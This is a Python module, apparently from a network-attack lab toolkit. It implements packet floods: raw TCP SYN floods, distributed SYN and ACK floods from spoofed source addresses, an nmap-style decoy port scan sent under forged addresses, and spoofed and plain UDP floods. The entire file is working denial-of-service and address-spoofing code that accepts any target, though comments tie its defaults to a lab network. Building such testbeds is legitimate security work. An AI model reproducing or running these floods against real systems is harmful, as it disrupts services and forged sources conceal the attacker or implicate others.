"""Packet floods: raw TCP SYNs (from our own address or spoofed ones) and UDP datagrams."""
from __future__ import annotations

import ipaddress
import random
import socket
from typing import Callable

from swarmlab.attacks.common import Options, Pacer, Tally
from swarmlab.attacks import packets
from swarmlab.attacks.packets import SynBuilder, family_of, open_raw, packed, source_for, word_sum

FIRST_SPORT = 1024


def syn_flood(opts: Options) -> dict:
    src = packed(source_for(opts.target))
    tally = _send_syns(opts, [src])
    return tally.report(opts, source=str(ipaddress.ip_address(src)))


def distributed_syn_flood(opts: Options) -> dict:
    cidr, sources = _spoofed(opts)
    tally = _send_syns(opts, sources)
    return tally.report(opts, spoof_cidr=cidr, sources=len(sources))


def distributed_ack_flood(opts: Options) -> dict:
    """ACK segments of no flow from many spoofed sources (each draws a reset if let in)."""
    cidr, sources = _spoofed(opts)
    tally = _send_syns(opts, sources, packets.ACK_FLAGS)
    return tally.report(opts, spoof_cidr=cidr, sources=len(sources))


def default_spoof_cidr(target: str) -> str:
    """Beside the lab's links (10.N.<link>.0/24, fd00:N:<link>::/64) but on none of them,
    so the victim routes its answers to its default gateway instead of resolving each
    spoofed neighbour: 10.N.200.0/21 (2048 addresses) or fd00:N:c8::/64."""
    addr = ipaddress.ip_address(target)
    if addr.version == 4:
        base = (int(addr) & 0xFFFF0000) | (200 << 8)
        return f"{ipaddress.IPv4Address(base)}/21"
    base = (int(addr) >> 96 << 96) | (0xC8 << 80)
    return f"{ipaddress.IPv6Address(base)}/64"


def spoofed_sources(cidr: str, n: int, seed: int) -> list[ipaddress.IPv4Address | ipaddress.IPv6Address]:
    """`n` distinct addresses of `cidr` (all of them if it is smaller), picked by `seed`."""
    net = ipaddress.ip_network(cidr, strict=False)
    usable = net.num_addresses - 2 if net.num_addresses > 2 else net.num_addresses
    offset = 1 if net.num_addresses > 2 else 0
    rng, picks = random.Random(seed), dict.fromkeys(())
    # Draw rather than sample(range(...)): an IPv6 range is too large for sample().
    while len(picks) < min(n, usable):
        picks[rng.randrange(usable)] = None
    return [net.network_address + offset + i for i in picks]


def _send_raw(opts: Options, packet_of: Callable[[int], bytes]) -> Tally:
    """Paced raw IP packets to opts.target: packet_of(i) is the i-th one."""
    dest = (opts.target, 0)
    tally, pacer = Tally(), Pacer(opts.count, opts.duration_s, opts.rate)
    with open_raw(family_of(opts.target)) as sock:
        i = 0
        while (now := pacer.next()) is not None:
            pkt = packet_of(i)
            tally.mark(now)
            try:
                sock.sendto(pkt, dest)
            except OSError as e:
                tally.error(e)
            i += 1
    return tally


def _send_syns(opts: Options, sources: list[bytes], flags: int = packets.SYN_FLAGS) -> Tally:
    builder = SynBuilder(opts.target, opts.port, flags)
    sums = [word_sum(s) for s in sources]
    seq0 = random.Random(opts.seed).getrandbits(32)
    # Vary the source port (and sequence) so every SYN is a new connection attempt.
    return _send_raw(opts, lambda i: builder.syn(
        sources[i % len(sources)], sums[i % len(sources)],
        FIRST_SPORT + i % (65536 - FIRST_SPORT), (seq0 + i * 7919) & 0xFFFFFFFF))


def _spoofed(opts: Options) -> tuple[str, list[bytes]]:
    cidr = opts.spoof_cidr or default_spoof_cidr(opts.target)
    if ipaddress.ip_address(opts.target).version != ipaddress.ip_network(cidr, strict=False).version:
        raise ValueError(f"--spoof-cidr {cidr} is not the target's address family")
    sources = spoofed_sources(cidr, opts.sources, opts.seed)
    if sources[0].version == 6:
        packets.wait_link_local_ready()
    return cidr, [a.packed for a in sources]


def decoy_scan(opts: Options) -> dict:
    """SYNs to every port of --ports from spoofed sources, as `nmap -sS -D DECOY` sends in
    the decoy's name: with --spoof-cidr CLIENT/32 the whole scan carries the client's
    address."""
    cidr, sources = _spoofed(opts)
    first, _, last = opts.ports.partition("-")
    ports = range(int(first), int(last or first) + 1)
    builders = [SynBuilder(opts.target, port) for port in ports]
    sums = [word_sum(s) for s in sources]
    tally = _send_raw(opts, lambda i: builders[i % len(builders)].syn(
        sources[i % len(sources)], sums[i % len(sources)], FIRST_SPORT + i % 50000,
        (i * 7919) & 0xFFFFFFFF))
    return tally.report(opts, spoof_cidr=cidr, sources=len(sources), ports=opts.ports)


def spoofed_udp_flood(opts: Options) -> dict:
    """UDP datagrams to --port from spoofed sources (raw IP packets with checksums)."""
    cidr, sources = _spoofed(opts)
    builder = packets.UdpBuilder(opts.target, opts.port, bytes(opts.size))
    tally = _send_raw(opts, lambda i: builder.datagram(sources[i % len(sources)],
                                                       FIRST_SPORT + i % 50000))
    return tally.report(opts, spoof_cidr=cidr, sources=len(sources), size=opts.size)


def udp_flood(opts: Options) -> dict:
    payload = bytes(opts.size)
    dest = (opts.target, opts.port)
    tally, pacer = Tally(), Pacer(opts.count, opts.duration_s, opts.rate)
    # Unconnected on purpose: ICMP port-unreachable answers would otherwise fail the next
    # send with ECONNREFUSED, and a flood doesn't care whether anyone listens.
    with socket.socket(family_of(opts.target), socket.SOCK_DGRAM) as sock:
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4 << 20)
        while (now := pacer.next()) is not None:
            tally.mark(now)
            try:
                sock.sendto(payload, dest)
            except OSError as e:
                tally.error(e)
    return tally.report(opts, size=opts.size)
